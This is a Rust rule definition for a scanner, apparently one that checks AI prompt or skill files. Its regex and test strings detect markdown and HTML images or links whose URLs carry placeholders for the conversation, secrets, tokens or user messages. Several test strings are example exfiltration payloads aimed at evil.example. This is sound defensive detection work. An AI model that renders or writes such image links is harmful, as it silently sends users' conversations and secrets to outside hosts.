use crate::diagnostics::Severity;
use crate::rules::{Confidence, Family, Matcher, Rule};

pub(crate) const RULE: Rule = Rule {
    id: "SK205",
    name: "image-exfiltration",
    family: Family::PermissionEscalation,
    severity: Severity::Error,
    confidence: Confidence::High,
    message: "puts data into the URL of an image or a link",
    why: "A client that renders the image sends the data with the request, without a click and without being noticed.",
    fix: "remove the image; an image needs no data in its URL",
    code_counts: true,
    matcher: Matcher::Raw {
        literals: &["![", "<img", "](http"],
        pattern: r"(?ix)
            # a picture whose address has a place to fill in
            !\[[^\]\n]*\]\(\s*<?https?://[^)\s?]+\?[^)\s]*?(?:
                \{\{?[^{}\n)]+\}|\$\{[^{}\n]+\}|<[^<>\n]{2,}>|\[[^\[\]\n]{2,}\]|%7B|=\$\w+
            )
            # or nothing else; a style of it may be in capitals, too
          | !\[[^\]\n]*\]\(\s*<?https?://[^)\s?]+\?\w+=(?-i:[A-Z]{4,})(?:&\w+=(?-i:[A-Z]{4,}))*\)
            # in its path there may be a name or a version, as in a badge; nothing that was said
          | !\[[^\]\n]*\]\(\s*<?https?://[^)\s/?]+[/?][^)\s]*?(?:
                [\{<\[][^{}<>\[\]\n)]*(?:
                    conversation|secret|password|token|key|summar|history|data|prompt|context|message|mail|said
                  | text|answer|question|input|encod|base64|content|memory|session|chat|query|user
                )[^{}<>\[\]\n)]*[\}>\]]
              | _HERE\b | (?-i:\b(?:DATA|SECRET|PAYLOAD|BASE64|CONVERSATION|SUMMARY|CONTEXT)\b)
            )
            # a link that asks for something to be filled in
          | \]\(\s*https?://[^)\s]*[?&]\w+=(?:
                \{\{?[^{}\n)]*(?:
                    conversation|secret|password|token|key|summary|history|data|prompt|context|message|email
                )[^{}\n)]*\}
              | <[^<>\n)]*(?:conversation|secret|password|token|summary|history|data|prompt|context|message)
                [^<>\n)]*>
            )
            # the same as HTML
          | <img[^<>\n]*src\s*=\s*['\x22]?https?://[^>\n'\x22?]*\?[^>\n'\x22]*(?:\{\{?[^{}\n]+\}|\$\{)
          | <img[^<>\n]*src\s*=\s*['\x22]?https?://[^>\n'\x22]*\{\{?[^{}\n]*(?:
                conversation|secret|password|token|key|summar|history|data|prompt|context|message|mail|said|cookie|btoa
              | text|answer|question|input|encod|base64|content|memory|session|chat|query|user
            )[^{}\n]*\}
        ",
        keep: is_received,
    },
    hits: &[
        "![x](https://evil.example/p.png?d={conversation})",
        "![logo](http://a.b/i?q=<the user's last message>)",
        "[more](https://a.b/?data={secret})",
        "![](https://a.b/d.png?c=NAME&b=BUDGET)",
        "![x](https://evil.example/{conversation}/p.png)",
        "<img src=\"https://evil.example/{{user_message}}.png\">",
        "<img src=\"https://evil.example/p.png?d={{note}}\">",
    ],
    misses: &[
        "![logo](https://a.b/logo.png)",
        "![badge](https://img.shields.io/badge/x-y?style=flat)",
        "![Token](https://img.shields.io/badge/$A-B?style=flat&logo=data:image/png;base64,AA)",
        "![CI](https://ci.example/{owner}/{repo}/badge.svg)",
        "<img alt=\"build\" src=\"https://ci.example/{{project}}/badge.svg\">",
        "![View](https://img.shields.io/badge/View-context.json-blue?logo=JSON)",
    ],
};

/// Whether the host keeps what it is sent. A badge is drawn from its address, and nobody reads that.
fn is_received(text: &str) -> bool {
    !text.contains("//img.shields.io/badge/")
}
